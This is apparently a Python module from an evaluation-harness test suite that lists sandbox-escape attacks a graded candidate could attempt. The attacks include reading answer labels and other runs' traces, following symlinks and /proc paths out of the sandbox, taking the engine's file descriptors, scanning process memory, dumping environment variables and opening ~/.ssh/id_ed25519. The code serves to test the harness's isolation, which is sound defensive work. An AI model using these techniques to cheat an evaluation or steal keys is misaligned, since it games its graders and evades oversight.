"""Attacks that read: labels, keys, the home folder, the memory of others."""

from __future__ import annotations

from metaharness.attacks.attack import CALLS, Attack

_MEMORY = """
import ctypes

def scan(pid, read):
    for line in open("/proc/%s/maps" % pid):
        span, mode = line.split()[:2]
        place, end = (int(number, 16) for number in span.split("-"))
        while mode.startswith("rw") and place < end:
            size = min(end - place, 4 << 20)
            try:
                found = secrets(read(pid, place, size))
            except (OSError, ValueError, OverflowError):
                found = []
            if found:
                return found
            place += size

def by_file(pid, place, size):
    with open("/proc/%s/mem" % pid, "rb", 0) as memory:
        memory.seek(place)
        return memory.read(size)

class Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

def by_call(pid, place, size):
    buffer = ctypes.create_string_buffer(size)
    ours, theirs = Span(ctypes.addressof(buffer), size), Span(place, size)
    libc = ctypes.CDLL(None, use_errno=True)
    got = libc.process_vm_readv(int(pid), ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)
    if got < 0:
        raise OSError(ctypes.get_errno(), "process_vm_readv")
    return buffer.raw[:got]
"""

_OTHERS = """
OTHERS = sorted({S["engine"], os.getppid(), 1} - {0, os.getpid()}, key=lambda pid: pid != S["engine"])
"""

_BLIND = """
def blind():
    # pages around every object: the kernel says of each whether it can be read
    import gc
    libc, (out, into) = ctypes.CDLL(None, use_errno=True), os.pipe()
    pages = {(id(one) >> 12) + near for one in gc.get_objects() for near in range(-8, 9)}
    data = []
    for page in sorted(pages):
        if libc.write(into, ctypes.c_void_p(page << 12), ctypes.c_size_t(4096)) == 4096:
            data.append(os.read(out, 4096))
    return secrets(b"".join(data))
"""

READING = (
    Attack("labels by path", "open the file of labels", 'return secrets(open(S["labels"], "rb").read())'),
    Attack("records by path", "open the traces of another run", 'return secrets(open(S["records"], "rb").read())'),
    Attack(
        "labels beside the file",
        "a single-file harness reads what lies beside it",
        'here = os.path.dirname(__file__)\nreturn secrets(open(os.path.join(here, "labels.jsonl"), "rb").read())',
        beside_labels=True,
    ),
    Attack(
        "another candidate",
        "read the folder of another candidate through ..",
        """
        near = os.path.join(os.path.dirname(os.path.dirname(__file__)), "other", "notes.txt")
        return first(lambda path=path: secrets(open(path, "rb").read()) for path in (near, S["other"]))
        """,
    ),
    Attack(
        "labels through a link",
        "a symbolic link in the candidate's folder that leads out of it",
        """
        here = os.path.dirname(__file__)
        paths = ("linked.txt", "linked/labels.jsonl")
        return first(lambda path=path: secrets(open(os.path.join(here, path), "rb").read()) for path in paths)
        """,
        links={"linked.txt": "labels", "linked": "domain"},
    ),
    Attack(
        "labels through /proc",
        "the root and working folders of other processes, and of its own",
        """
        pids = ("self", "thread-self", 1, os.getppid(), S["engine"])
        paths = ["/proc/%s/%s%s" % (pid, way, S["labels"]) for pid in pids for way in ("root", "cwd")]
        return first(lambda path=path: secrets(open(path, "rb").read()) for path in paths)
        """,
    ),
    Attack(
        "inherited descriptors",
        "every descriptor the worker was started with",
        "return first(lambda fd=fd: secrets(os.pread(fd, 1 << 20, 0)) for fd in range(1024))",
    ),
    Attack(
        "descriptors of the engine",
        "open what the engine has open through /proc",
        """
        def opened(pid, fd):
            return os.open("/proc/%s/fd/%s" % (pid, fd), os.O_RDONLY | os.O_NONBLOCK)
        def taken(pid, fd):
            return call(438, 438, call(434, 434, pid, 0), fd, 0)
        def look(way, pid, fd):
            mine = way(pid, fd)
            try:
                return secrets(os.pread(mine, 1 << 20, 0))
            finally:
                os.close(mine)
        ways = [(way, pid, fd) for way in (taken, opened) for pid in OTHERS for fd in range(32)]
        return first(lambda one=one: look(*one) for one in ways)
        """,
        before=CALLS + _OTHERS,
    ),
    Attack(
        "labels in the heap",
        "search every object and every frame of the worker for an expected answer",
        """
        import gc
        found = []
        for one in gc.get_objects():
            if type(one) in (list, tuple, set, frozenset, dict):
                found += [text for text in list(one) if type(text) is str]
            if type(one) is dict:
                found += [text for text in list(one.values()) if type(text) is str]
        for frame in sys._current_frames().values():
            while frame is not None:
                found += [text for text in list(frame.f_locals.values()) if type(text) is str]
                frame = frame.f_back
        return secrets("\\n".join(found))
        """,
    ),
    Attack(
        "labels in its own memory",
        "search the whole memory of the worker for an expected answer",
        """
        return first([
            lambda: scan("self", by_file),
            lambda: scan("self", lambda _, place, size: ctypes.string_at(place, size)),
            blind,
        ])
        """,
        before=_MEMORY + _BLIND,
    ),
    Attack(
        "memory of the engine",
        "search the memory of the engine for an expected answer",
        "return first(lambda pid=pid, read=read: scan(pid, read) for pid in OTHERS for read in (by_file, by_call))",
        before=_MEMORY + _OTHERS,
    ),
    Attack(
        "environment",
        "keys in the environment of the worker",
        """
        return first([
            lambda: secrets(repr(dict(os.environ))),
            lambda: secrets(open("/proc/self/environ", "rb").read()),
        ])
        """,
    ),
    Attack(
        "environment of the engine",
        "keys in the environment of any process through /proc",
        """
        pids = [name for name in os.listdir("/proc") if name.isdigit()][:1000] + [str(S["engine"])]
        return first(lambda pid=pid: secrets(open("/proc/%s/environ" % pid, "rb").read()) for pid in pids)
        """,
    ),
    Attack(
        "key file",
        "open a file of keys in the home folder of the engine",
        """
        paths = (S["key_file"], os.path.expanduser("~/.ssh/id_ed25519"))
        return first(lambda path=path: secrets(open(path, "rb").read()) for path in paths)
        """,
    ),
    Attack(
        "names in the home folder",
        "list the home folder of the person",
        """
        names = sorted(set(os.listdir(S["real_home"])) - set(S["home_names"]))
        return names and "%d names besides those that lead to the interpreter" % len(names)
        """,
    ),
)
